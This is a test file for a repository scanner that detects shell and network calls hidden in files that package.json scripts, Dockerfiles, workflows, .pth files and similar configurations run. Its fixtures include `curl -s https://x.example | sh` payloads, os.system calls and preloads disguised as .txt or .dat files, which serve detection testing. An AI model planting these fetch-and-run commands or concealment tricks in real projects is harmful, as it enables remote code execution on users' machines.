import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { namedByCommand, shellCommands } from "../../core/scan/commands";
import { FakeGitHub } from "../action/fake-github";
import { runBuiltCli, tempDir } from "../helpers/cli";
import { errorRules, gate, pullRequest, scanAnnotations as annotations } from "./pr";

// Node runs any file but `.json`/`.node` as JavaScript and Python any file as Python: a file the project's run
// configuration names by its path (a package.json script, .npmrc's node-options, a Procfile, a Dockerfile, a
// package's `main`) is the agent's code whatever its name says. Without this a pull request put its call in
// `assets/banner.txt` and `node -r ./assets/banner.txt agent.js` ran it.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

function write(dir: string, file: string, text: string) {
  mkdirSync(join(dir, file, ".."), { recursive: true });
  writeFileSync(join(dir, file), text);
}

const SHELL_JS = 'require("child_process").exec("curl -s https://x.example | sh");\n';
const packageJson = (scripts: Record<string, string>, more: Record<string, unknown> = {}) => JSON.stringify({ name: "agent", private: true, scripts, ...more }, null, 2);

/** `check DIR` as JSON: "file:line:column rule" of each finding, sorted. */
function check(dir: string, ...args: string[]) {
  const r = runBuiltCli(["check", dir, "--only", "scan", "--format", "json", ...args]);
  const findings = (JSON.parse(r.stdout) as { findings: { rule: string; file: string; line: number; column: number }[] }).findings;
  return { code: r.code, findings: findings.map((f) => `${f.file}:${f.line}:${f.column} ${f.rule}`).sort() };
}

describe("scan/shell-command in files the project's run configuration hands to Node or Python", () => {
  it("scan/shell-command: a preload named by a package.json script, a file of any name, fails the built Action", async () => {
    const pr = await pullRequest((dir) => {
      write(dir, "assets/banner.txt", SHELL_JS);
      write(dir, "package.json", packageJson({ start: "cross-env NODE_ENV=production node -r ./assets/banner.txt agent/index.js" }));
    });
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([1, ["scan/shell-command"]]);
    expect(annotations(r.commands)).toEqual(["scan/shell-command assets/banner.txt 1 1"]);
  });

  it("scan/shell-command: a change to the script line alone judges the old file it now names (built Action)", async () => {
    const pr = await pullRequest(
      (dir) => write(dir, "package.json", packageJson({ start: "NODE_OPTIONS='--require ./notes/setup.txt' node agent/index.js" })),
      (dir) => {
        write(dir, "notes/setup.txt", SHELL_JS);
        write(dir, "package.json", packageJson({ start: "node agent/index.js" }));
      },
    );
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command notes/setup.txt 1 1"]]);
    // `--new-only` too: the file is new to what runs, though none of its lines changed.
    const newOnly = runBuiltCli(["check", pr.dir, "--base", pr.base, "--changed-only", "--new-only", "--only", "scan", "--format", "json"]);
    expect([newOnly.code, (JSON.parse(newOnly.stdout).findings as { file: string; line: number }[]).map((f) => `${f.file}:${f.line}`)]).toEqual([1, ["notes/setup.txt:1"]]);
  });

  it("scan/shell-command: a change to a file .npmrc's node-options preloads, the manifest unchanged, fails the built Action", async () => {
    const pr = await pullRequest(
      (dir) => write(dir, "lib/hooks.dat", `// hooks\n${SHELL_JS}`),
      (dir) => {
        write(dir, ".npmrc", "save-exact=true\nnode-options = \"--require ./lib/hooks.dat\"\n");
        write(dir, "lib/hooks.dat", "// hooks\n");
      },
    );
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command lib/hooks.dat 2 1"]]);
  });

  it("scan/shell-command, scan/network-call: Procfile, Dockerfile, shell script, Makefile, an env file's NODE_OPTIONS and a package's main and bin, in a whole-tree check", () => {
    const dir = tempDir();
    write(dir, "Procfile", "web: node server.js\nworker: python3 -u jobs/run.dat --fast\n");
    write(dir, "jobs/run.dat", "import os\n\nos.system('id')\n");
    write(dir, "deploy/Dockerfile", 'FROM node:20\nWORKDIR /app\nCMD ["node", "--enable-source-maps", "boot.cjs.txt"]\nRUN apt-get update && \\\n  node \\\n  prepare.txt\n');
    write(dir, "deploy/boot.cjs.txt", "fetch('https://x.example');\n");
    write(dir, "deploy/prepare.txt", `\n${SHELL_JS}`);
    write(dir, "pkg/package.json", JSON.stringify({ name: "pkg", main: "lib/entry", bin: { tool: "tool.txt" }, exports: { ".": { require: "./lib/entry" } } }));
    write(dir, "pkg/lib/entry", SHELL_JS);
    write(dir, "pkg/tool.txt", "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['id'])\n");
    write(dir, "scripts/serve.sh", "#!/bin/sh\n# node scripts/commented.txt\nset -e\nexec python3 \"scripts/worker.txt\" \"$@\" # node scripts/commented.txt\n");
    write(dir, "scripts/worker.txt", "import socket\nsocket.create_connection(('x.example', 80))\n");
    write(dir, "scripts/commented.txt", SHELL_JS);
    write(dir, "Makefile", "run:\n\t@node tools/make.txt\n# node scripts/commented.txt\nnode scripts/commented.txt: not a recipe\n");
    write(dir, "tools/make.txt", SHELL_JS);
    // `node --env-file=.env.production` applies it, and every Node a process with it set starts.
    write(dir, ".env.production", "API_URL=https://api.example\nexport NODE_OPTIONS='--max-old-space-size=4096 --require ./boot/preload.txt'\n");
    write(dir, "boot/preload.txt", SHELL_JS);
    expect(check(dir)).toEqual({
      code: 1,
      findings: [
        "boot/preload.txt:1:1 scan/shell-command",
        "deploy/boot.cjs.txt:1:1 scan/network-call",
        "deploy/prepare.txt:2:1 scan/shell-command",
        "jobs/run.dat:3:1 scan/shell-command",
        "pkg/lib/entry:1:1 scan/shell-command",
        "pkg/tool.txt:3:1 scan/shell-command",
        "scripts/worker.txt:2:1 scan/network-call",
        "tools/make.txt:1:1 scan/shell-command",
      ],
    });
  });

  it("scan/shell-command: a GitHub workflow's multi-line `run:` step handing a .dat file to Python fails the built Action", async () => {
    const pr = await pullRequest((dir) => {
      write(dir, "jobs/run.dat", "import os\n\nos.system('id')\n");
      write(dir, ".github/workflows/nightly.yml", "on: [push]\njobs:\n  n:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          pip install -r requirements.txt\n          python3 -u jobs/run.dat --fast\n");
    });
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command jobs/run.dat 3 1"]]);
  });

  it("scan/shell-command: a husky hook (a shell script without `#!` or extension) running a file with Node fails the built Action", async () => {
    const pr = await pullRequest((dir) => {
      write(dir, "tools/lint.txt", `// lint\n${SHELL_JS}`);
      write(dir, ".husky/pre-commit", "npx lint-staged\nnode tools/lint.txt\n");
    });
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command tools/lint.txt 2 1"]]);
  });

  it("scan/shell-command: a `#!/bin/sh` script that re-runs itself with Python (`''''exec python3 \"$0\"`) is judged as Python, built Action", async () => {
    const pr = await pullRequest((dir) => write(dir, "bin/agent", "#!/bin/sh\n''''exec python3 \"$0\" \"$@\" # '''\nimport os\nos.system('curl -s https://x.example | sh')\n"));
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command bin/agent 4 1"]]);
  });

  it("scan/shell-command: workflows, composite and JavaScript actions, compose files, tox, pre-commit, devcontainers, justfiles, pyproject tasks and `#!` shell scripts, in a whole-tree check", () => {
    const dir = tempDir();
    const py = (n: number) => `${"# pad\n".repeat(n - 1)}import os; os.system('id')\n`;
    const js = (n: number) => `${"// pad\n".repeat(n - 1)}${SHELL_JS}`;
    // Workflows: a step under the job's defaults, in its own working-directory (a multi-line block), under the workflow's defaults.
    write(
      dir,
      ".github/workflows/ci.yml",
      [
        "on: push",
        "defaults:",
        "  run:",
        "    working-directory: svc",
        "jobs:",
        "  a:",
        "    runs-on: ubuntu-latest",
        "    defaults: { run: { working-directory: app } }",
        "    steps:",
        "      - run: python3 w/job.dat",
        "      - working-directory: tools",
        "        run: |",
        "          echo start",
        "          node  step.txt",
        "  b:",
        "    runs-on: ubuntu-latest",
        "    steps:",
        "      - run: python3 -m pytest && python3 svc.dat",
        "",
      ].join("\n"),
    );
    write(dir, "app/w/job.dat", py(1));
    write(dir, "tools/step.txt", js(2));
    write(dir, "svc/svc.dat", py(3));
    write(dir, "actions/setup/action.yml", "name: s\nruns:\n  using: node20\n  main: lib/main.txt\n");
    write(dir, "actions/setup/lib/main.txt", js(1));
    write(dir, "actions/comp/action.yaml", "name: c\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: python3 comp.dat\n");
    write(dir, "comp.dat", py(2));
    // Compose: a command line, its words, an entrypoint (through a merge key) with a command.
    write(
      dir,
      "deploy/docker-compose.yml",
      [
        "x-base: &base",
        "  entrypoint: [python3, -u]",
        "services:",
        "  web:",
        "    image: node:20",
        "    command: node web.txt",
        "  worker:",
        "    image: python:3.11",
        '    command: ["python3", "jobs/worker.dat"]',
        "  cron:",
        "    <<: *base",
        "    command: [cron.dat]",
        "    healthcheck:",
        '      test: ["CMD", "python3", "hc.dat"]',
        "",
      ].join("\n"),
    );
    write(dir, "deploy/web.txt", js(1));
    write(dir, "deploy/jobs/worker.dat", py(1));
    write(dir, "deploy/cron.dat", py(2));
    write(dir, "deploy/hc.dat", py(3));
    // tox: `commands` over several lines, {envpython} being Python; only [testenv…] sections run.
    write(dir, "tox.ini", "[tox]\nenvlist = py\n[testenv]\ndeps = pytest\ncommands =\n    pytest\n    - {envpython} tox/check.dat\ncommands_post = node tox/post.txt\n[other]\ncommands = node tox/not.txt\n");
    write(dir, "tox/check.dat", py(1));
    write(dir, "tox/post.txt", js(1));
    write(dir, "tox/not.txt", js(1));
    write(dir, "setup.cfg", "[metadata]\nname = agent\n[testenv:lint]\ncommands = python3 tox/cfg.dat\n");
    write(dir, "tox/cfg.dat", py(2));
    // pre-commit: a system hook's entry with its args, a script hook's entry by its `#!` line.
    write(dir, ".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: a\n    name: a\n    entry: python3\n    args: [hooks/a.dat]\n    language: system\n  - id: b\n    name: b\n    entry: hooks/b.txt --fix\n    language: script\n");
    write(dir, "hooks/a.dat", py(1));
    write(dir, "hooks/b.txt", `#!/usr/bin/env node\n${SHELL_JS}`);
    // A devcontainer: a line, words, an object of both; run in the folder holding .devcontainer.
    write(dir, ".devcontainer/py/devcontainer.json", '{\n  // comment\n  "postCreateCommand": "pip install -e . && python3 dev/create.dat",\n  "postStartCommand": ["node", "dev/start.txt"],\n  "postAttachCommand": { "a": "node dev/attach.txt", "b": ["python3", "dev/b.dat"] },\n}\n');
    write(dir, "dev/create.dat", py(1));
    write(dir, "dev/start.txt", js(1));
    write(dir, "dev/attach.txt", js(2));
    write(dir, "dev/b.dat", py(2));
    // justfile: recipe lines, a `#!/usr/bin/env bash` recipe, a backtick in an assignment; a comment is not a recipe.
    write(dir, "justfile", "version := `python3 just/version.dat`\n\nrun arg='x': build\n    @echo {{arg}}\n    -python3 just/run.dat\n\nsh:\n    #!/usr/bin/env bash\n    node just/sh.txt\n# node just/not.txt\n");
    write(dir, "just/version.dat", py(1));
    write(dir, "just/run.dat", py(2));
    write(dir, "just/sh.txt", js(1));
    write(dir, "just/not.txt", js(1));
    // pyproject: poe's string, dotted cmd and multi-line shell forms, taskipy, pdm, hatch; a task's help is not run.
    write(
      dir,
      "pyproject.toml",
      [
        "[project]",
        'name = "agent"',
        "version = '0'",
        "[tool.poe.tasks]",
        'nightly = "python3 tasks/poe.dat"',
        'serve.cmd = "node tasks/serve.txt"',
        "[tool.poe.tasks.clean]",
        'help = "python3 tasks/help.dat"',
        'shell = """',
        "rm -rf build",
        'python3 tasks/clean.dat"""',
        "[tool.taskipy.tasks]",
        "lint = { cmd = 'python3 tasks/taskipy.dat', help = 'x' }",
        "[tool.pdm.scripts]",
        'start = { cmd = ["python3", "tasks/pdm.dat"] }',
        "[tool.hatch.envs.default.scripts]",
        'test = ["pytest", "python3 tasks/hatch.dat"]',
        "[tool.tox.env_run_base]",
        'commands = [["pytest"], ["python3", "tasks/tox.dat"]]',
        "",
      ].join("\n"),
    );
    for (const [f, n] of [["tasks/poe.dat", 1], ["tasks/clean.dat", 2], ["tasks/taskipy.dat", 3], ["tasks/pdm.dat", 4], ["tasks/hatch.dat", 5], ["tasks/tox.dat", 6], ["tasks/help.dat", 1]] as const) write(dir, f, py(n));
    write(dir, "tasks/serve.txt", js(3));
    // Shell scripts by their `#!` line, without an extension; one running itself as Python, one as Node.
    write(dir, "bin/start", "#!/usr/bin/env -S bash -e\nexec python3 bin/start.dat\n");
    write(dir, "bin/start.dat", py(1));
    write(dir, "bin/py", "#!/bin/sh\n''''exec python3 -u \"$0\" \"$@\" # '''\nimport subprocess\nsubprocess.run(['id'])\n");
    write(dir, "bin/js", '#!/bin/sh\n":" //; exec node "${0}" "$@"\n\nfetch("https://x.example");\n');
    expect(check(dir)).toEqual({
      code: 1,
      findings: [
        "actions/setup/lib/main.txt:1:1 scan/shell-command",
        "app/w/job.dat:1:12 scan/shell-command",
        "bin/js:4:1 scan/network-call",
        "bin/py:4:1 scan/shell-command",
        "bin/start.dat:1:12 scan/shell-command",
        "comp.dat:2:12 scan/shell-command",
        "deploy/cron.dat:2:12 scan/shell-command",
        "deploy/hc.dat:3:12 scan/shell-command",
        "deploy/jobs/worker.dat:1:12 scan/shell-command",
        "deploy/web.txt:1:1 scan/shell-command",
        "dev/attach.txt:2:1 scan/shell-command",
        "dev/b.dat:2:12 scan/shell-command",
        "dev/create.dat:1:12 scan/shell-command",
        "dev/start.txt:1:1 scan/shell-command",
        "hooks/a.dat:1:12 scan/shell-command",
        "hooks/b.txt:2:1 scan/shell-command",
        "just/run.dat:2:12 scan/shell-command",
        "just/sh.txt:1:1 scan/shell-command",
        "just/version.dat:1:12 scan/shell-command",
        "svc/svc.dat:3:12 scan/shell-command",
        "tasks/clean.dat:2:12 scan/shell-command",
        "tasks/hatch.dat:5:12 scan/shell-command",
        "tasks/pdm.dat:4:12 scan/shell-command",
        "tasks/poe.dat:1:12 scan/shell-command",
        "tasks/serve.txt:3:1 scan/shell-command",
        "tasks/taskipy.dat:3:12 scan/shell-command",
        "tasks/tox.dat:6:12 scan/shell-command",
        "tools/step.txt:2:1 scan/shell-command",
        "tox/cfg.dat:2:12 scan/shell-command",
        "tox/check.dat:1:12 scan/shell-command",
        "tox/post.txt:1:1 scan/shell-command",
      ],
    });
  });

  it("scan/shell-command is clean for run configurations' look-alikes: modules by name, an image alone, comments, text, another language's `#!`", () => {
    const dir = tempDir();
    for (const f of ["tests/a.dat", "b.dat", "c.dat", "d.dat", "e.dat", "f.dat", "g.dat", "h.dat", "i.dat", "j.dat", "k.dat", "l.dat"]) write(dir, f, "import os; os.system('id')\n");
    write(dir, ".github/workflows/ci.yml", "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: python3 -m pytest tests/a.dat\n      - run: echo 'python3 b.dat'\n      - uses: ./actions/x\n        with: { script: python3 c.dat }\n");
    // Not the root's .github/workflows: GitHub does not run it.
    write(dir, "sub/.github/workflows/x.yml", "jobs:\n  t:\n    steps:\n      - run: python3 ../d.dat\n");
    write(dir, "compose.yaml", "services:\n  db:\n    image: postgres:16\n    environment:\n      CMD: python3 e.dat\n");
    // A hook in .githooks/ runs only where a clone's config names the folder; without `#!` it is no shell script.
    write(dir, ".githooks/pre-commit", "python3 f.dat\n");
    write(dir, "bin/tool", "#!/usr/bin/env perl\n# exec python3 \"$0\"\nsystem('python3 g.dat');\n");
    // A polyglot's line in a comment, and in quotes: the shell runs neither.
    write(dir, "bin/look", "#!/bin/sh\n# ''''exec python3 \"$0\" \"$@\" # '''\necho 'exec node \"$0\"'\nimport os; os.system('id')\n");
    write(dir, "tox.ini", "[tox]\ncommands = python3 h.dat\n[testenv]\ndescription = run python3 i.dat\n");
    write(dir, "pyproject.toml", "[tool.poe.tasks.x]\nhelp = 'python3 j.dat'\nscript = 'pkg.mod:main'\n[tool.other]\ntask = 'python3 k.dat'\n");
    write(dir, ".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: p\n    name: p\n    entry: 'python3 l\\.dat'\n    language: pygrep\n");
    expect(check(dir)).toEqual({ code: 0, findings: [] });
  });

  it("scan/skipped-file: a compose file whose aliases expand past what is read, or a pyproject nesting past the reader, could name anything (fails closed)", () => {
    const dir = tempDir();
    const letter = (i: number) => String.fromCharCode(97 + i);
    const laughs = ["a: &a [x, x, x, x, x, x, x, x, x, x]", ...Array.from({ length: 8 }, (_, i) => `${letter(i + 1)}: &${letter(i + 1)} [${Array(10).fill(`*${letter(i)}`).join(", ")}]`)];
    write(dir, "compose.yaml", `${laughs.join("\n")}\nservices:\n  w:\n    command: python3 w.dat\n`);
    write(dir, "pyproject.toml", `[tool.poe.tasks]\ndeep = ${"[".repeat(300)}"python3 w.dat"${"]".repeat(300)}\n`);
    write(dir, "w.dat", "import os; os.system('id')\n");
    expect(check(dir)).toEqual({ code: 1, findings: ["compose.yaml:1:1 scan/skipped-file", "pyproject.toml:1:1 scan/skipped-file"] });
  });

  it("scan/shell-command is clean for what no command runs as a file: inline code, modules by name, packages, data, links out", async () => {
    const pr = await pullRequest((dir) => {
      for (const f of ["notes/a.txt", "notes/b.txt", "notes/c.txt", "notes/d.json", "notes/e.txt"]) write(dir, f, SHELL_JS);
      symlinkSync("/etc/hostname", join(dir, "notes/outside.txt"));
      write(
        dir,
        "package.json",
        packageJson({
          inline: 'node -e "console.log(1)" notes/a.txt',
          module: "python3 -m notes.b notes/b.txt",
          preload: "node -r dotenv/config -r notes/c.txt agent/index.js",
          data: "node notes/d.json",
          print: "cat notes/e.txt && echo notes/e.txt",
          outside: "node notes/outside.txt",
        }),
      );
    });
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([0, []]);
  });

  it("scan/skipped-file: a manifest over the size limit cannot be read for what it runs (fails closed)", () => {
    const dir = tempDir();
    write(dir, ".flowgate.yml", "limits:\n  max-file-bytes: 200\n");
    write(dir, "package.json", packageJson({ start: "node -r ./x.txt a.js" }, { description: "x".repeat(300) }));
    write(dir, "small/package.json", packageJson({ start: "node a.js" }));
    expect(check(dir)).toEqual({ code: 1, findings: ["package.json:1:1 scan/skipped-file"] });
  });

  it("scan/shell-command: a .pth file's import lines (run by `site.addsitedir`, or from a committed virtualenv) fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      write(dir, "agent/site/fonts.pth", "# font paths\n../fonts\nimport os; os.system('curl -s https://x.example | sh')\n");
      write(dir, "agent/main.py", "import os\nimport site\n\nsite.addsitedir(os.path.join(os.path.dirname(__file__), 'site'))\n");
      write(dir, ".venv/lib/python3.11/site-packages/_virtualenv.pth", "import\tsubprocess; subprocess.run(['id'])\n");
      // Only a line starting with `import` runs: the rest are paths, however code-like.
      write(dir, "agent/site/paths.pth", "os.system('x')\n  import os; os.system('x')\nimportant; os.system('x')\n");
    });
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands).sort()]).toEqual([
      1,
      ["scan/shell-command .venv/lib/python3.11/site-packages/_virtualenv.pth 1 20", "scan/shell-command agent/site/fonts.pth 3 12"],
    ]);
  });

  it("scan/shell-command: a package.json nesting its exports 200,000 deep is read to its end (no stack overflow, exit 1 not 3)", () => {
    const dir = tempDir();
    const depth = 200_000;
    write(dir, "package.json", `{"name":"x","exports":${'{"a":'.repeat(depth)}"./deep.txt"${"}".repeat(depth)},"imports":{"#d":${"[".repeat(depth)}"./deep.txt"${"]".repeat(depth)}}}`);
    write(dir, "deep.txt", SHELL_JS);
    expect(check(dir)).toEqual({ code: 1, findings: ["deep.txt:1:1 scan/shell-command"] });
  });

  it("scan/skipped-file: a manifest naming more than 10,000 files for Node or Python is not looked through (fails closed)", () => {
    const dir = tempDir();
    write(dir, "package.json", packageJson({ many: Array.from({ length: 10_001 }, (_, i) => `node f${i}.txt`).join("; ") }));
    write(dir, "f0.txt", SHELL_JS);
    const r = runBuiltCli(["check", dir, "--only", "scan", "--format", "json"]);
    expect([r.code, (JSON.parse(r.stdout).findings as { rule: string; file: string; message: string }[]).map((f) => `${f.file} ${f.rule} ${f.message}`)]).toEqual([
      1,
      ["package.json scan/skipped-file Not scanned: it names more than 10000 files for Node or Python to run, which are not looked for."],
    ]);
  });

  it("reads the files a command line hands to Node or Python", () => {
    const named = (line: string) => [...shellCommands(line)].flatMap(namedByCommand);
    expect(named("NODE_ENV=prod node --enable-source-maps -r ./a.txt --require=./b.txt --import ./c.txt d.txt --flag e.txt")).toEqual([
      { path: "./a.txt", grammar: "javascript" },
      { path: "./b.txt", grammar: "javascript" },
      { path: "./c.txt", grammar: "javascript" },
      { path: "d.txt", grammar: "javascript" },
    ]);
    expect(named("npm run build && npx tsx 'src dir/main.txt'; deno run -A tool.txt | bun run x.txt")).toEqual([
      { path: "src dir/main.txt", grammar: "typescript" },
      { path: "tool.txt", grammar: "typescript" },
      { path: "x.txt", grammar: "javascript" },
    ]);
    expect(named("poetry run python3.11 -W ignore -X dev -u jobs/run.dat arg; pypy3 -- -x.dat; $(nodemon w.txt)")).toEqual([
      { path: "jobs/run.dat", grammar: "python" },
      { path: "-x.dat", grammar: "python" },
      { path: "w.txt", grammar: "javascript" },
    ]);
    expect(named("node -p 1 a.txt; python -c 'x' b.txt; python -um mod c.txt; node -r pkg; echo; NODE_OPTIONS=--inspect node")).toEqual([]);
    expect(named("# node a.txt\necho x # node b.txt\necho a#b; node c.txt")).toEqual([{ path: "c.txt", grammar: "javascript" }]);
    // The first runner in a command counts whatever comes before it (wrappers are many: `cross-env`, `uv run`, `time`).
    expect(named("echo a#b node d.txt; node $DIR/e.txt $(node f.txt)")).toEqual([
      { path: "d.txt", grammar: "javascript" },
      { path: "$DIR/e.txt", grammar: "javascript" },
      { path: "f.txt", grammar: "javascript" },
    ]);
  });
});
